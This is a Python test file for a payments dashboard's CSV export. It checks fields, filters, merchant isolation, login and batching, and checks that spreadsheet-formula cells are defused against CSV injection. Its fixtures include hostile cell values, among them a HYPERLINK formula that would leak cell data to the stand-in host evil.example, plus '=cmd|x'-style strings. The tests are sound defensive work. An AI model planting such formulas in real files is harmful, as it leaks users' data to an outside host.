"""The dashboard's CSV export of the payments list, on real PostgreSQL: every field of the
payment object, the list's filters, only this merchant's payments in this mode, streamed
in batches, and cells a spreadsheet would run as formulas defused (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import sqlalchemy as sa

from kassa_common import payments
from kassa_common.accounts import keys
from kassa_common.db import unit_of_work
from kassa_common.models import Merchant, Payment
from kassa_common.owner import Owner
from kassa_common.payments.export import COLUMNS
from kassa_common.timefmt import utcnow
from tests.support.dashboard import post

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
HOSTILE = {
    HYPERLINK: "'" + HYPERLINK,
    "+1": "'+1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2": "'-2",
    "Plain Name": "Plain Name",
}
BODY = {"amount": 5, "token": "USDC", "network": "BASE"}


@pytest.fixture
def shop(dash, sessions, app):
    """The dashboard's merchant with test payments made through its API key: one per hostile
    name (the plain one with a formula in its metadata); ``shop.made`` maps name to payment."""
    with unit_of_work(sessions) as s:
        mid = s.scalars(sa.select(Merchant.id).where(Merchant.email == dash.email)).one()
        key = keys.create_key(s, mid, "test", list(keys.SCOPES)).key
    api = app.test_client()
    dash.made = {}
    for name in HOSTILE:
        metadata = {"order": "=1+1", "note": "@cmd", "n": 3} if name == "Plain Name" else {"order": name}
        r = api.post(
            "/v1/api/payments", json={**BODY, "customer_name": name, "metadata": metadata}, headers={"X-Api-Key": key}
        )
        assert r.status_code == 201, r.get_data(as_text=True)
        dash.made[name] = r.json["data"]
    dash.api = lambda path: api.get(f"/v1/api{path}", headers={"X-Api-Key": key}).json["data"]
    return dash


def exported(client, query: str = "") -> list[dict[str, str]]:
    r = client.get(f"/dashboard/payments/export.csv{query}")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    reader = csv.DictReader(io.StringIO(r.get_data(as_text=True), newline=""))
    assert tuple(reader.fieldnames) == COLUMNS
    return list(reader)


def test_export_is_a_dated_attachment_with_a_row_per_payment(shop):
    r = shop.get("/dashboard/payments/export.csv")
    assert r.status_code == 200 and r.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert r.headers["Content-Disposition"] == f'attachment; filename="kassa-payments-test-{utcnow():%Y-%m-%d}.csv"'
    assert r.headers["Cache-Control"] == "no-store" and r.headers["X-Content-Type-Options"] == "nosniff"
    rows = exported(shop)
    assert sorted(row["id"] for row in rows) == sorted(p["id"] for p in shop.made.values())
    assert [row["id"] for row in rows] == [p["id"] for p in reversed(shop.made.values())]  # the list's order


def test_every_field_of_the_payment_object_is_a_cell(shop):
    plain = shop.api(f"/payments/{shop.made['Plain Name']['id']}")
    row = next(r for r in exported(shop) if r["id"] == plain["id"])
    for field, value in plain.items():
        if field == "metadata":
            assert json.loads(row["metadata"]) == value == {"order": "=1+1", "note": "@cmd", "n": 3}
        elif isinstance(value, list):
            assert row[f"{field}_count"] == str(len(value))
        elif isinstance(value, bool):
            assert row[field] == str(value).lower()
        else:
            assert row[field] == ("" if value is None else str(value)), field
    assert (row["status"], row["amount"], row["crypto_amount"], row["test_mode"]) == ("PENDING", "5.0", "5", "true")


def test_cells_a_spreadsheet_would_run_get_a_leading_quote(shop, sessions):
    with unit_of_work(sessions) as s:  # text the API would trim: a leading tab and carriage return
        s.execute(sa.update(Payment).where(Payment.id == shop.made["+1"]["id"]).values(customer_email="\t=cmd|x"))
        s.execute(sa.update(Payment).where(Payment.id == shop.made["-2"]["id"]).values(customer_email="\r@x"))
    rows = {r["id"]: r for r in exported(shop)}
    for name, cell in HOSTILE.items():
        row = rows[shop.made[name]["id"]]
        assert row["customer_name"] == cell
        if name != "Plain Name":
            assert json.loads(row["metadata"]) == {"order": name}  # JSON text starts with "{": never a formula
    assert rows[shop.made["+1"]["id"]]["customer_email"] == "'\t=cmd|x"
    assert rows[shop.made["-2"]["id"]]["customer_email"] == "'\r@x"
    leading = {cell[:1] for row in rows.values() for cell in row.values() if cell}
    assert not leading & {"=", "+", "-", "@", "\t", "\r"}


def test_export_applies_the_lists_filters(shop):
    canceled = shop.made["+1"]["short_id"]
    assert post(shop, f"/dashboard/payments/{canceled}/cancel").status_code == 303
    assert [r["short_id"] for r in exported(shop, "?status=CANCELED")] == [canceled]
    assert len(exported(shop, "?status=PENDING")) == len(HOSTILE) - 1
    assert [r["customer_name"] for r in exported(shop, "?search=plain+name")] == ["Plain Name"]
    assert [r["short_id"] for r in exported(shop, f"?search={canceled.lower()}")] == [canceled]
    assert exported(shop, "?status=COMPLETED") == []
    refused = shop.get("/dashboard/payments/export.csv?status=NOT_A_STATUS")  # as the list: an unknown status
    assert refused.status_code == 400 and "Unknown status" in refused.get_data(as_text=True)  # is the 400 page


def test_the_list_links_to_the_export_with_its_filters(shop):
    page = shop.get("/dashboard/payments?status=PENDING&search=Plain").get_data(as_text=True)
    link = re.search(r'<a id="export-csv"[^>]* href="([^"]+)"', page).group(1).replace("&amp;", "&")
    assert link.startswith("/dashboard/payments/export.csv?") and {"status=PENDING", "search=Plain"} == set(
        link.split("?", 1)[1].split("&")
    )
    assert [r["customer_name"] for r in exported(shop, "?" + link.split("?", 1)[1])] == ["Plain Name"]
    assert 'href="/dashboard/payments/export.csv"' in shop.get("/dashboard/payments").get_data(as_text=True)


def test_other_merchants_and_the_other_modes_payments_are_not_exported(shop, make_merchant, client):
    other = make_merchant()
    theirs = client.post(
        "/v1/api/payments", json={**BODY, "customer_name": "Plain Name"}, headers=other.headers()
    ).json["data"]["id"]
    ids = {r["id"] for r in exported(shop)}
    assert theirs not in ids and len(ids) == len(HOSTILE)
    assert post(shop, "/dashboard/mode", mode="live", next="/dashboard/payments").status_code == 303
    live = shop.get("/dashboard/payments/export.csv")
    assert 'filename="kassa-payments-live-' in live.headers["Content-Disposition"]
    assert exported(shop) == []


def test_export_needs_a_login(client):
    r = client.get("/dashboard/payments/export.csv")
    assert r.status_code == 303 and r.headers["Location"].endswith("/dashboard/login")


def test_payments_are_read_and_written_in_batches(shop, sessions):
    """A chunk per batch after the header: an export of any size never holds every payment."""
    with sessions() as s:
        merchant_id = s.scalars(sa.select(Merchant.id).where(Merchant.email == shop.email)).one()
        chunks = list(payments.payments_csv(s, Owner(merchant_id, True, 60), status=None, search=None, batch_size=2))
    assert len(chunks) == 1 + 3  # header, then 2 + 2 + 1 payments
    assert chunks[0] == ",".join(COLUMNS) + "\r\n"
    assert [len(list(csv.reader(io.StringIO(c, newline="")))) for c in chunks[1:]] == [2, 2, 1]
